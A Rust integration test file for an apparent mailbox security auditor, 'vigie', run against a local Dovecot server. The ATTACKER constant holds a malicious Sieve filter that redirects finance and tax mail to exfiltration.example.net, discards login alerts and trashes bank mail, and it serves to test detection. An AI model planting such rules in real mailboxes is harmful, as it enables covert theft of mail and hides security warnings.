//! `vigie mail audit` and `vigie mail scan` against a real Dovecot + Pigeonhole on loopback
//! (started per test by vigie-testkit): every `sieve.*` finding from scripts uploaded over
//! ManageSieve, read-only access, incremental scans, and the documented failures.

use std::io::{Read, Write};
use std::net::{Shutdown, TcpListener, TcpStream};
use std::path::{Path, PathBuf};
use std::process::{Command, Output};
use std::sync::Arc;
use std::sync::atomic::{AtomicBool, Ordering};
use std::thread;

use vigie_mail::net::managesieve::blocking::Sieve;
use vigie_mail::net::{AccountUrl, ImapOptions};
use vigie_testkit::Dovecot;

fn repo() -> PathBuf {
    Path::new(env!("CARGO_MANIFEST_DIR")).join("../..")
}

struct Env {
    dovecot: Dovecot,
    data: tempfile::TempDir,
}

impl Env {
    fn new() -> Env {
        Env {
            dovecot: Dovecot::start()
                .expect("Dovecot fixture (run tests/fixtures/dovecot.sh install)"),
            data: tempfile::tempdir().unwrap(),
        }
    }

    fn vigie(&self) -> Command {
        let mut c = Command::new(env!("CARGO_BIN_EXE_vigie"));
        c.env("VIGIE_TEST_PASSWORD", self.dovecot.password())
            .arg("--data-dir")
            .arg(self.data.path());
        c
    }

    fn secure_args(&self) -> Vec<String> {
        vec![
            "--password-env".into(),
            "VIGIE_TEST_PASSWORD".into(),
            "--ca-file".into(),
            self.dovecot.ca_cert_path().display().to_string(),
            "--no-progress".into(),
            "--format".into(),
            "json".into(),
        ]
    }

    fn audit(&self, extra: &[&str]) -> (Output, serde_json::Value) {
        let o = self
            .vigie()
            .args(["mail", "audit", &self.dovecot.imaps_url()])
            .args(self.secure_args())
            .arg("--sieve-port")
            .arg(self.dovecot.sieve_port().to_string())
            .args(extra)
            .output()
            .unwrap();
        let json = serde_json::from_slice(&o.stdout).unwrap_or(serde_json::Value::Null);
        (o, json)
    }

    fn scan(&self, extra: &[&str]) -> (Output, serde_json::Value) {
        let o = self
            .vigie()
            .args(["mail", "scan", &self.dovecot.imaps_url()])
            .args(self.secure_args())
            .args(extra)
            .output()
            .unwrap();
        let json = serde_json::from_slice(&o.stdout).unwrap_or(serde_json::Value::Null);
        (o, json)
    }

    fn upload(&self, scripts: &[(&str, &str)], active: &str) {
        let account = AccountUrl::parse(&self.dovecot.imaps_url()).unwrap();
        let options = ImapOptions {
            ca_file: Some(self.dovecot.ca_cert_path()),
            ..ImapOptions::default()
        };
        let mut sieve = Sieve::connect_account(
            &account,
            Some(self.dovecot.sieve_port()),
            self.dovecot.password(),
            &options,
        )
        .expect("ManageSieve login");
        for (name, text) in scripts {
            sieve
                .put_script(name, text)
                .unwrap_or_else(|e| panic!("PUTSCRIPT {name} refused: {e}"));
        }
        sieve.set_active(active).unwrap();
        sieve.logout().unwrap();
    }
}

fn describe(o: &Output) -> String {
    format!(
        "status {:?}\nstdout:\n{}\nstderr:\n{}",
        o.status.code(),
        String::from_utf8_lossy(&o.stdout),
        String::from_utf8_lossy(&o.stderr)
    )
}

fn findings<'a>(report: &'a serde_json::Value, id: &str) -> Vec<&'a serde_json::Value> {
    report["findings"]
        .as_array()
        .map(|f| f.iter().filter(|f| f["id"] == id).collect())
        .unwrap_or_default()
}

const ATTACKER: &str = r#"require ["variables", "copy", "fileinto", "vacation", "enotify", "imap4flags"];
# rule:[Sauvegarde]
set "dest" "collecte@exfiltration.example.net";
if header :contains "subject" "mairie" {
  if anyof (address :contains "from" "tresorerie", header :contains "subject" "virement") {
    if not exists "X-Spam-Flag" {
      redirect "${dest}";
    }
  }
}
if address :is "from" ["notaire@etude.example.fr", "dgfip@impots.example.fr"] {
  redirect :copy "copie@exfiltration.example.net";
}
if header :contains "subject" "alerte connexion" {
  discard;
  stop;
}
if header :contains "from" "banque" {
  addflag "\\Seen";
  fileinto "Trash";
}
vacation :days 1 :subject "Absent" "Je suis absent, écrivez à autre@exfiltration.example.net.";
notify :message "nouveau courrier" "mailto:espion@exfiltration.example.net";
"#;

const PIPE: &str = r#"require ["vnd.dovecot.pipe"];
pipe "exfiltre";
"#;

const BENIGN: &str = r#"require ["fileinto"];
# rule:[Spam]
if header :contains "X-Spam-Flag" "YES" {
  fileinto "Junk";
}
"#;

#[test]
fn audit_reports_every_sieve_threat_uploaded_over_managesieve() {
    let env = Env::new();
    env.upload(
        &[
            ("roundcube", ATTACKER),
            ("outil", PIPE),
            ("antispam", BENIGN),
        ],
        "roundcube",
    );
    let (o, report) = env.audit(&["--no-scan"]);
    assert_eq!(o.status.code(), Some(0), "{}", describe(&o));
    assert_eq!(report["schema"], "vigie.audit.v1");
    for id in [
        "sieve.redirect",
        "sieve.redirect_copy",
        "sieve.discard",
        "sieve.fileinto_trash",
        "sieve.vacation",
        "sieve.notify",
        "sieve.extprogram",
    ] {
        assert!(
            !findings(&report, id).is_empty(),
            "{id} missing: {report:#}"
        );
    }
    let redirect = findings(&report, "sieve.redirect")[0];
    assert_eq!(redirect["severity"], "critical");
    let detail = redirect["detail"].as_str().unwrap();
    assert!(
        detail.contains("collecte@exfiltration.example.net"),
        "{detail}"
    );
    assert!(
        detail.contains("roundcube") && detail.contains("tresorerie"),
        "{detail}"
    );
    for f in ["title", "detail", "remediation"] {
        assert!(!redirect[f].as_str().unwrap().is_empty());
    }
    // The inactive script still counts, the benign anti-spam rule does not raise anything high.
    let pipe = findings(&report, "sieve.extprogram")[0];
    assert!(pipe["detail"].as_str().unwrap().contains("outil"));
    for f in report["findings"].as_array().unwrap() {
        if f["detail"].as_str().unwrap_or("").contains("antispam") {
            assert!(
                ["info", "low"].contains(&f["severity"].as_str().unwrap()),
                "benign rule raised {f:#}"
            );
        }
    }
    // The password of the fixture is strong; nothing says otherwise, and it is never printed.
    assert!(findings(&report, "password.weak").is_empty());
    assert!(!String::from_utf8_lossy(&o.stdout).contains(env.dovecot.password()));
}

#[test]
fn audit_and_scan_change_nothing_and_scans_are_incremental() {
    let env = Env::new();
    let user = env.dovecot.user();
    env.dovecot
        .seed(user, &repo().join("examples/demo-maildir"))
        .unwrap();
    let before = env.dovecot.message_flags_snapshot(user).unwrap();
    let total = before.total_messages();
    assert!(total > 100);

    let (o, audit) = env.audit(&[]);
    assert_eq!(o.status.code(), Some(0), "{}", describe(&o));
    let summary = findings(&audit, "exposure.summary");
    assert_eq!(summary.len(), 1, "{audit:#}");
    assert!(
        summary[0]["evidence"]["sensitive_messages"]
            .as_u64()
            .unwrap()
            > 50
    );
    assert!(!findings(&audit, "exposure.retention").is_empty());

    // The audit's scan left its state: a scan now reads nothing new.
    let (o, first) = env.scan(&[]);
    assert_eq!(o.status.code(), Some(0), "{}", describe(&o));
    assert_eq!(first["complete"], true);
    assert_eq!(first["messages_scanned"].as_u64(), Some(u64::from(total)));
    assert_eq!(
        first["messages_new"].as_u64(),
        Some(0),
        "nothing new since the audit"
    );

    let after = env.dovecot.message_flags_snapshot(user).unwrap();
    assert_eq!(before, after, "flags or counts changed");

    // Two new messages: only they are read.
    for i in 0..2 {
        let raw = format!(
            "From: fournisseur@example.fr\r\nSubject: Nouveau RIB {i}\r\nMessage-ID: <nouveau-{i}@example.fr>\r\nDate: Mon, 2 Nov 2026 10:00:00 +0100\r\n\r\nNotre nouvel IBAN : FR76 3000 6000 0112 3456 7890 189\r\n"
        );
        env.dovecot.append("INBOX", raw.as_bytes(), &[]).unwrap();
    }
    let (o, second) = env.scan(&[]);
    assert_eq!(o.status.code(), Some(0), "{}", describe(&o));
    assert_eq!(second["messages_new"].as_u64(), Some(2));
    assert_eq!(
        second["messages_scanned"].as_u64(),
        Some(u64::from(total) + 2)
    );
    assert!(
        second["findings"]
            .as_array()
            .unwrap()
            .iter()
            .any(|f| f["message_id"] == "<nouveau-1@example.fr>")
    );

    let (o, full) = env.scan(&["--full"]);
    assert_eq!(o.status.code(), Some(0), "{}", describe(&o));
    assert_eq!(full["messages_new"].as_u64(), Some(u64::from(total) + 2));
    assert_eq!(
        full["findings"].as_array().unwrap().len(),
        second["findings"].as_array().unwrap().len(),
        "incremental and full scans must agree"
    );
    let unseen_after = env.dovecot.message_flags_snapshot(user).unwrap();
    for (folder, snap) in &unseen_after.folders {
        for (uid, flags) in &snap.flags {
            if folder == "INBOX" && !before.folders["INBOX"].flags.contains_key(uid) {
                assert!(
                    !flags.contains("\\Seen"),
                    "new message {uid} marked as read"
                );
            }
        }
    }
}

#[test]
fn failures_have_french_messages_and_documented_statuses() {
    let env = Env::new();
    // Wrong password: 4.
    let o = env
        .vigie()
        .env("WRONG", "pas-le-bon")
        .args([
            "mail",
            "scan",
            &env.dovecot.imaps_url(),
            "--password-env",
            "WRONG",
            "--ca-file",
        ])
        .arg(env.dovecot.ca_cert_path())
        .output()
        .unwrap();
    assert_eq!(o.status.code(), Some(4), "{}", describe(&o));
    let err = String::from_utf8_lossy(&o.stderr);
    assert!(err.contains("refusé"), "{err}");
    assert!(!err.contains("pas-le-bon"));

    // Self-signed certificate without --ca-file: 5, and the audit says why.
    let o = env
        .vigie()
        .args([
            "mail",
            "scan",
            &env.dovecot.imaps_url(),
            "--password-env",
            "VIGIE_TEST_PASSWORD",
        ])
        .output()
        .unwrap();
    assert_eq!(o.status.code(), Some(5), "{}", describe(&o));
    assert!(String::from_utf8_lossy(&o.stderr).contains("certificat"));
    let o = env
        .vigie()
        .args([
            "mail",
            "audit",
            &env.dovecot.imaps_url(),
            "--password-env",
            "VIGIE_TEST_PASSWORD",
            "--format",
            "json",
        ])
        .output()
        .unwrap();
    assert_eq!(o.status.code(), Some(5), "{}", describe(&o));
    let report: serde_json::Value = serde_json::from_slice(&o.stdout).unwrap();
    assert!(
        !findings(&report, "tls.certificate_invalid").is_empty(),
        "{report:#}"
    );

    // Nobody listening: 3.
    let closed = TcpListener::bind("127.0.0.1:0").unwrap();
    let port = closed.local_addr().unwrap().port();
    drop(closed);
    let o = env
        .vigie()
        .args([
            "mail",
            "scan",
            &format!("imaps://u@127.0.0.1:{port}"),
            "--password-env",
            "VIGIE_TEST_PASSWORD",
            "--timeout",
            "5",
        ])
        .output()
        .unwrap();
    assert_eq!(o.status.code(), Some(3), "{}", describe(&o));

    // Plaintext on request: the audit reports it.
    let o = env
        .vigie()
        .args([
            "mail",
            "audit",
            &env.dovecot.imap_url(),
            "--insecure-plaintext",
            "--no-scan",
            "--format",
            "json",
        ])
        .args(["--password-env", "VIGIE_TEST_PASSWORD", "--sieve-port"])
        .arg(env.dovecot.sieve_port().to_string())
        .output()
        .unwrap();
    assert_eq!(o.status.code(), Some(0), "{}", describe(&o));
    let report: serde_json::Value = serde_json::from_slice(&o.stdout).unwrap();
    let plain = findings(&report, "tls.plaintext");
    assert!(!plain.is_empty(), "{report:#}");
    assert_eq!(plain[0]["severity"], "critical");
}

/// Forwards TCP connections to `target`; the first one is cut after `limit` bytes from the
/// server, the next ones pass whole.
fn cutting_proxy(target: u16, limit: usize) -> (u16, Arc<AtomicBool>) {
    let listener = TcpListener::bind("127.0.0.1:0").unwrap();
    let port = listener.local_addr().unwrap().port();
    let cut = Arc::new(AtomicBool::new(false));
    let cut_flag = Arc::clone(&cut);
    thread::spawn(move || {
        for (index, client) in listener.incoming().enumerate() {
            let Ok(client) = client else { return };
            let limit = if index == 0 { limit } else { usize::MAX };
            let cut_flag = Arc::clone(&cut_flag);
            thread::spawn(move || forward(client, target, limit, &cut_flag));
        }
    });
    (port, cut)
}

fn forward(client: TcpStream, target: u16, limit: usize, cut_flag: &AtomicBool) {
    {
        let Ok(server) = TcpStream::connect(("127.0.0.1", target)) else {
            return;
        };
        let (mut c_read, mut s_write) = (client.try_clone().unwrap(), server.try_clone().unwrap());
        thread::spawn(move || {
            let mut buf = [0u8; 16384];
            while let Ok(n) = c_read.read(&mut buf) {
                if n == 0 || s_write.write_all(&buf[..n]).is_err() {
                    break;
                }
            }
        });
        let (mut s_read, mut c_write) = (server, client);
        let mut sent = 0usize;
        let mut buf = [0u8; 16384];
        while let Ok(n) = s_read.read(&mut buf) {
            if n == 0 {
                break;
            }
            let n = n.min(limit.saturating_sub(sent));
            if c_write.write_all(&buf[..n]).is_err() {
                break;
            }
            sent += n;
            if sent >= limit {
                cut_flag.store(true, Ordering::SeqCst);
                break;
            }
        }
        let _ = c_write.shutdown(Shutdown::Both);
        let _ = s_read.shutdown(Shutdown::Both);
    }
}

#[test]
fn a_connection_cut_mid_fetch_still_writes_an_incomplete_report() {
    let env = Env::new();
    env.dovecot
        .seed(env.dovecot.user(), &repo().join("examples/demo-maildir"))
        .unwrap();
    let (port, cut) = cutting_proxy(env.dovecot.imaps_port(), 300_000);
    let url = format!("imaps://{}@127.0.0.1:{port}", env.dovecot.user());
    let report_path = env.data.path().join("coupe.json");
    let o = env
        .vigie()
        .args([
            "mail",
            "scan",
            &url,
            "--password-env",
            "VIGIE_TEST_PASSWORD",
            "--no-progress",
            "--format",
            "json",
            "--timeout",
            "10",
            "--output",
        ])
        .arg(&report_path)
        .arg("--ca-file")
        .arg(env.dovecot.ca_cert_path())
        .output()
        .unwrap();
    assert!(
        cut.load(Ordering::SeqCst),
        "the proxy never cut: {}",
        describe(&o)
    );
    assert_eq!(o.status.code(), Some(6), "{}", describe(&o));
    assert!(
        String::from_utf8_lossy(&o.stderr).contains("connexion"),
        "{}",
        describe(&o)
    );
    let report: serde_json::Value =
        serde_json::from_slice(&std::fs::read(&report_path).unwrap()).unwrap();
    assert_eq!(report["complete"], false);
    assert!(report["incomplete_reason"].as_str().unwrap().len() > 10);
    let scanned = report["messages_scanned"].as_u64().unwrap();
    assert!(scanned > 0, "messages read before the cut are reported");

    // The next scan of the same account resumes where the cut left it and completes.
    let o = env
        .vigie()
        .args(["mail", "scan", &url])
        .args(env.secure_args())
        .output()
        .unwrap();
    let resumed: serde_json::Value = serde_json::from_slice(&o.stdout).unwrap_or_default();
    assert_eq!(o.status.code(), Some(0), "{}", describe(&o));
    assert_eq!(resumed["complete"], true);
    let total = env
        .dovecot
        .message_flags_snapshot(env.dovecot.user())
        .unwrap()
        .total_messages();
    assert_eq!(resumed["messages_scanned"].as_u64(), Some(u64::from(total)));
    assert_eq!(
        resumed["messages_new"].as_u64(),
        Some(u64::from(total) - scanned),
        "only the messages after the cut are read again"
    );
}
